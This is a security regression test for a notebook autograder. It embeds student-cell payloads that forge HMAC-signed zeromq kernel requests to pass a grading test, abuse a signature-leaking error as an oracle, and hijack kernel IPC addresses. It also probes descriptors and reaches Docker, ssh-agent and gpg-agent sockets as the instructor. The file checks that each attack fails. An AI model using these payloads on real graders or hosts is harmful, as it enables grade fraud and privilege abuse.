// Under `nbgrader autograde` a cell may read its kernel's connection file (node's permission model
// grants it to the kernel, which reads it at its start) and reach zeromq by computed names. A cell
// that signed an `execute_request` of its own with that key and sent it to the kernel's shell socket
// ran code the course's reading of cells never saw: here a `const Math` whose `abs` is 0, which the
// mean test then read, so a `mean` returning 0 passed it; sent with the `msg_id` nbclient gives the
// next request (jupyter_client's are `<session>_<pid>_<count>`, seen on IOPub), its outputs and `idle`
// were even taken for the test's own. nbgrader gave the test its 3 points. The kernel now takes
// requests from nbclient only (lib/kernel/kernel-sockets.cjs). Our grader gives the kernel no
// connection file to read. Nor are the descriptors of the kernel's connections a cell's: node's
// permission model checks paths only, and a cell could stat, read, write or close any descriptor of
// its process (lib/kernel/own-descriptors.cjs); a last cell counts those it reaches.
import assert from "node:assert/strict";
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { createServer } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { arithOf, perfectArith, studentFolder } from "./graded.mjs";

// the answer cell: the key, zeromq, and the kernel's IOPub (the last request's header) and shell
const SOCKETS = String.raw`function square(x: number): number {
  return x * x;
}
const own: any = {};
{
  const P: any = process;
  const k = (a: string, b: string) => a + b;
  try {
    const fs = P[k("getBuiltin", "Module")]("fs");
    const hmac = P[k("getBuiltin", "Module")]("crypto");
    const zmq = P[k("main", "Module")][k("requ", "ire")]("zeromq");
    const conn = JSON.parse(fs.readFileSync(process.argv[process.argv.indexOf("--config-path") + 1], "utf8"));
    const address = (port: number) => conn.transport + "://" + conn.ip + (conn.transport === "ipc" ? "-" : ":") + port;
    const sign = (parts: string[]) => { const h = hmac.createHmac("sha256", conn.key); for (const p of parts) h.update(p); return h.digest("hex"); };
    const sub = new zmq.Subscriber();
    sub.connect(address(conn.iopub_port));
    sub.subscribe();
    const shell = new zmq.Dealer();
    shell.connect(address(conn.shell_port));
    (async () => {
      for await (const raw of sub) {
        const parts = raw.map((b: any) => b.toString());
        const at = parts.indexOf("<IDS|MSG>");
        const parent = JSON.parse(parts[at + 3]);
        if (JSON.parse(parts[at + 2]).msg_type === "status" && parent.msg_type === "execute_request") own.last = parent;
      }
    })().catch(() => undefined);
    own.conn = conn;
    own.address = address;
    own.sign = sign;
    own.send = async (code: string) => {
      const cut = own.last.msg_id.lastIndexOf("_");
      const header = { ...own.last, msg_id: own.last.msg_id.slice(0, cut + 1) + (Number(own.last.msg_id.slice(cut + 1)) + 1), date: new Date().toISOString() };
      const parts = [header, {}, {}, { code, silent: false, store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: false }].map((part) => JSON.stringify(part));
      await shell.send(["<IDS|MSG>", sign(parts), ...parts]);
      return "SENT " + header.msg_id;
    };
    console.log("OWN SOCKETS open");
  } catch (e) {
    console.log("OWN SOCKETS refused: " + String(e).slice(0, 300));
  }
}`;

// a cell of the student's right before the mean test: once IOPub has shown its own request, the
// unread code goes with the msg_id of the next request, the test's
const FORGED = 'console.log("FORGED OUTPUT");\nconst Math = { abs: (_: number) => 0 };';
const SEND = `const unread = ${JSON.stringify(FORGED)};
await new Promise((done) => setTimeout(done, 500));
console.log(own.send && own.last ? await own.send(unread) : "NOT SENT");`;

// Without the key (our grader hands it to the kernel through a pipe, drained before any cell runs), the
// kernel itself signed a request: tslab answered one with a wrong signature by an unhandled rejection,
// "invalid hmac 000…; want <the right signature>", written into the running cell's stderr, which the
// cell read on IOPub and sent the request again, signed so; its unread code ran (the same const Math,
// and the mean test passed under our grader). A message not signed with the key is now dropped unread.
const ORACLE = String.raw`if (!own.sign) {
  const P: any = process;
  const zmq = P["main" + "Module"]["requ" + "ire"]("zeromq");
  const address = (port: number) => "ipc://" + process.cwd() + "/../sockets/k-" + port;
  const wanted: string[] = [];
  const sub = new zmq.Subscriber();
  sub.connect(address(2));
  sub.subscribe();
  (async () => {
    for await (const raw of sub) {
      const found = /want ([0-9a-f]{64})/.exec(raw.map((b: any) => b.toString()).join(" "));
      if (found) wanted.push(found[1]);
    }
  })().catch(() => undefined);
  const shell = new zmq.Dealer();
  shell.connect(address(1));
  await new Promise((done) => setTimeout(done, 300));
  const header = { msg_id: "oracle", session: "s", username: "u", msg_type: "execute_request", version: "5.3", date: new Date().toISOString() };
  const parts = [header, {}, {}, { code: unread, silent: false, store_history: false, user_expressions: {}, allow_stdin: false, stop_on_error: false }].map((part) => JSON.stringify(part));
  await shell.send(["<IDS|MSG>", "0".repeat(64), ...parts]);
  await new Promise((done) => setTimeout(done, 500));
  if (wanted.length > 0) {
    await shell.send(["<IDS|MSG>", wanted[0], ...parts]);
    console.log("SIGNED BY THE KERNEL");
  } else {
    console.log("NO SIGNATURE GIVEN");
  }
  await new Promise((done) => setTimeout(done, 300));
}`;

// The kernel's addresses taken over, right before the mean test: libzmq removes a Unix socket's file
// before it binds one there, in native code that node's permission model does not see, so a cell binds
// its own sockets at the kernel's five addresses (under our runner beside its working folder, under
// nbgrader as its connection file says) and publishes on each, every 50 ms, the status "idle" of the
// test's request, signed where the key is readable (nbgrader), which would end the test's cell before
// its error came. The graders' clients connected to the kernel's own sockets before any cell ran, and
// read nothing else: the test fails as before.
const REBIND = String.raw`{
  const P: any = process;
  const zmq = P["main" + "Module"]["requ" + "ire"]("zeromq");
  const addresses = own.conn
    ? ["shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"].map((name) => own.address(own.conn[name]))
    : [1, 2, 3, 4, 5].map((port) => "ipc://" + process.cwd() + "/../sockets/k-" + port);
  const idle = () => {
    if (!own.last || !own.sign) return ["<IDS|MSG>", "forged", "{}", "{}", "{}", "{}"];
    const cut = own.last.msg_id.lastIndexOf("_");
    const parent = { ...own.last, msg_id: own.last.msg_id.slice(0, cut + 1) + (Number(own.last.msg_id.slice(cut + 1)) + 1) };
    const header = { ...parent, msg_id: "forged-" + Math.random(), msg_type: "status", date: new Date().toISOString() };
    const parts = [header, parent, {}, { execution_state: "idle" }].map((part) => JSON.stringify(part));
    return ["<IDS|MSG>", own.sign(parts), ...parts];
  };
  const bound: string[] = [];
  for (const address of addresses) {
    try {
      const pub = new zmq.Publisher();
      await pub.bind(address);
      setInterval(() => pub.send(idle()).catch(() => undefined), 50);
      bound.push("bound");
    } catch (error) {
      bound.push("refused (" + String(error).slice(0, 100) + ")");
    }
  }
  await new Promise((done) => setTimeout(done, 300));
  console.log("REBOUND " + bound.join(" "));
}`;

// every descriptor a cell did not open is refused; its own file works
const DESCRIPTORS = `{
  const fs: any = (process as any)["getBuiltin" + "Module"]("fs");
  let reached = 0;
  for (let fd = 3; fd < 256; fd++) {
    try {
      fs.fstatSync(fd);
      reached += 1;
    } catch {}
  }
  const file = process.cwd() + "/own-descriptor.txt";
  const own = fs.openSync(file, "w+");
  fs.writeSync(own, "own");
  const size = fs.fstatSync(own).size;
  fs.closeSync(own);
  fs.unlinkSync(file);
  console.log("DESCRIPTORS REACHED " + reached + ", OWN " + size);
}`;

// libzmq removes the file at an ipc address before it binds there, in native code node's permission
// model does not see: a cell bound a socket at a file outside its folder (under nbgrader, where the
// kernel runs as the instructor, the course's gradebook.db would do) and the file was gone. Every mount
// but the kernel's own folders is read-only to it now (autograder/src/execute/own_files.py).
const BIND_OUTSIDE = (file) => `{
  const zmq: any = (process as any)["main" + "Module"]["requ" + "ire"]("zeromq");
  const pair = new zmq.Pair();
  try {
    await pair.bind(${JSON.stringify(`ipc://${file}`)});
    console.log("OUTSIDE BOUND");
  } catch (error) {
    console.log("OUTSIDE REFUSED " + String(error).slice(0, 100));
  }
  pair.close();
  // its own folder stays writable, by a relative path too (the folder it was started in)
  const fs: any = (process as any)["getBuiltin" + "Module"]("fs");
  try {
    fs.writeFileSync("relative.txt", "mine");
    fs.unlinkSync("relative.txt");
    console.log("RELATIVE WRITTEN");
  } catch (error) {
    console.log("RELATIVE REFUSED " + String(error).slice(0, 100));
  }
}`;
let outsideFile;

// zeromq's STREAM sockets send a cell's bytes as they are to any Unix socket (ipc://), where node's
// refusal of Unix sockets (lib/kernel/no-local-sockets.cjs) does not look, and services take their
// client's user for its credential: under nbgrader a cell reached them as the instructor. The services'
// in /run (Docker's socket, D-Bus, PostgreSQL's peer authentication) first, then the others: an ssh
// agent's in /tmp (a cell could sign with the instructor's keys), a gpg agent's in her home, an editor's
// in /dev/shm, a classmate's kernel's IOPub in /tmp (nbgrader's kernels run as the same user). The kernel
// sees each of those folders empty but for its own paths now (own_files.py, cover_folders.py). An
// abstract socket belongs to the network namespace, and the kernel has one of its own.
const REACH_SOCKETS = (addresses) => `{
  const zmq: any = (process as any)["main" + "Module"]["requ" + "ire"]("zeromq");
  const attempts = ${JSON.stringify(addresses)}.map(async ([name, address]: string[]) => {
    const stream = new zmq.Stream();
    stream.connect(address);
    const peer = stream.receive().then(([id]: any[]) => id);
    peer.catch(() => undefined);
    const reached = await Promise.race([peer, new Promise((done) => setTimeout(() => done(null), 1500))]);
    if (reached) await stream.send([reached, "a request as the kernel's user\\n"]);
    stream.close();
    return reached ? name : null;
  });
  const reached = (await Promise.all(attempts)).filter(Boolean);
  console.log("SOCKETS REACHED: " + (reached.length > 0 ? reached.join("; ") : "none"));
}`;
/**
 * Unix sockets listening where services and other kernels put theirs, each open to every user (so that a
 * kernel of a user of its own reaches it too, where it may pass the folders above), and what each heard.
 */
function socketsToReach() {
  const folders = [];
  const folderIn = (base, prefix, mode) => {
    const folder = mkdtempSync(join(base, prefix));
    chmodSync(folder, mode);
    folders.push(folder);
    return folder;
  };
  const places = [
    ["a service in /run", join(folderIn("/run", "neural-mi-service-", 0o755), "service.sock")],
    ["an ssh agent in /tmp", join(folderIn("/tmp", "ssh-", 0o755), `agent.${process.pid}`)],
    ["a gpg agent in the grading user's home", join(folderIn(homedir(), ".neural-mi-gnupg-", 0o755), "S.gpg-agent")],
    ["an editor in /dev/shm", join(folderIn("/dev/shm", "neural-mi-editor-", 0o755), "ipc.sock")],
    // as nbgrader makes a kernel's (src/nbgrader/unix_socket_kernels.py): only its user's
    ["a classmate's kernel", join(folderIn("/tmp", "neural-mi-kernel-", 0o700), "k-2")],
    ["an abstract socket", `\0neural-mi-abstract-${randomBytes(8).toString("hex")}`],
  ];
  const heard = {};
  const servers = places.map(([name, socket]) => {
    heard[name] = [];
    const server = createServer((connection) => {
      heard[name].push("a connection");
      connection.on("data", (data) => heard[name].push(String(data)));
    });
    server.listen(socket, () => socket.startsWith("\0") || chmodSync(socket, 0o777));
    server.unref();
    return server;
  });
  const close = () => {
    for (const server of servers) server.close();
    for (const folder of folders) rmSync(folder, { recursive: true, force: true });
  };
  process.on("exit", close);
  const addresses = places.map(([name, socket]) => [name, `ipc://${socket.startsWith("\0") ? "@" + socket.slice(1) : socket}`]);
  return { addresses, heard, close };
}
let listeners;

const printed = (file) => JSON.stringify(JSON.parse(readFileSync(file, "utf8")).cells.flatMap((cell) => cell.outputs ?? []));

const outputsOf = (file, id) => JSON.parse(readFileSync(file, "utf8")).cells.find((cell) => cell.metadata?.nbgrader?.grade_id === id).outputs;

export const cases = [
  {
    student: "own-kernel-messages",
    title: "a request a cell signs and sends to its own kernel is not run, nor does the kernel sign one for it, nor do messages it publishes at the kernel's own addresses reach the graders: a wrong mean fails its test, no descriptor of the kernel's is a cell's, and a zeromq socket bound at a file outside its folder removes nothing nor reaches a Unix socket of a service, an agent or another kernel (in /run, /tmp, the grader's home, /dev/shm, or abstract), under both graders",
    build(classDir) {
      const notebook = perfectArith();
      const answer = (id) => notebook.cells.find((cell) => cell.metadata?.nbgrader?.grade_id === id);
      answer("square").source = SOCKETS;
      answer("mean").source = "function mean(values: number[]): number {\n  return 0;\n}";
      const test = notebook.cells.findIndex((cell) => cell.metadata?.nbgrader?.grade_id === "mean-test");
      notebook.cells.splice(test, 0, { cell_type: "code", execution_count: null, id: "send", metadata: {}, outputs: [], source: SEND }, { cell_type: "code", execution_count: null, id: "oracle", metadata: {}, outputs: [], source: ORACLE }, { cell_type: "code", execution_count: null, id: "rebind", metadata: {}, outputs: [], source: REBIND });
      notebook.cells.push({ cell_type: "code", execution_count: null, id: "descriptors", metadata: {}, outputs: [], source: DESCRIPTORS });
      outsideFile = join(classDir, "..", "outside-the-kernels-folder.txt");
      writeFileSync(outsideFile, "the instructor's file");
      notebook.cells.push({ cell_type: "code", execution_count: null, id: "bind-outside", metadata: {}, outputs: [], source: BIND_OUTSIDE(outsideFile) });
      listeners = socketsToReach();
      notebook.cells.push({ cell_type: "code", execution_count: null, id: "reach-sockets", metadata: {}, outputs: [], source: REACH_SOCKETS(listeners.addresses) });
      writeFileSync(join(studentFolder(classDir, this.student), "arith.ipynb"), JSON.stringify(notebook));
    },
    check({ report, gradebook, courseDir, out }) {
      // both graders have run: the listening sockets go
      listeners.close();
      const exercises = arithOf(report, this.student).exercises;
      assert.deepEqual(exercises.map((exercise) => [exercise.id, exercise.points]), [["square-test", 2], ["why-square", null], ["mean-test", 0]]);
      assert.equal(gradebook[this.student]["arith.ipynb:square-test"].auto, 2);
      assert.equal(gradebook[this.student]["arith.ipynb:mean-test"].auto, 0, "nbgrader: the mean test read the unread cell's Math");
      // our grader: the kernel gave no signature away, so the unread request did not run
      assert.match(printed(join(out, "students", this.student, "arith.ipynb")), /NO SIGNATURE GIVEN/);
      // the mean test failed by its own check under both graders: no unread code changed what it read
      for (const file of [join(out, "students", this.student, "arith.ipynb"), join(courseDir, "autograded", this.student, "fixture", "arith.ipynb")]) {
        const outputs = outputsOf(file, "mean-test");
        assert.ok(outputs.some((output) => output.output_type === "error" && /should be 0\.4995, got 0/.test(output.evalue)), `${file}: ${JSON.stringify(outputs)}`);
        assert.doesNotMatch(JSON.stringify(outputs), /FORGED OUTPUT/);
      }
      for (const file of [join(out, "students", this.student, "arith.ipynb"), join(courseDir, "autograded", this.student, "fixture", "arith.ipynb")]) {
        assert.match(printed(file), /DESCRIPTORS REACHED 0, OWN 3\b/, file);
        // the kernel's five addresses were the cell's, and the test still failed
        assert.match(printed(file), /REBOUND bound bound bound bound bound\b/, file);
        assert.match(printed(file), /OUTSIDE REFUSED/, file);
        assert.match(printed(file), /RELATIVE WRITTEN/, file);
        assert.match(printed(file), /SOCKETS REACHED: none/, `${file}: ${/SOCKETS REACHED: [^"\\]*/.exec(printed(file))}`);
      }
      // the file at the address the cell bound is still there, as it was, and no listening socket heard anything
      assert.equal(readFileSync(outsideFile, "utf8"), "the instructor's file");
      assert.deepEqual(listeners.heard, Object.fromEntries(Object.keys(listeners.heard).map((name) => [name, []])));
    },
  },
];
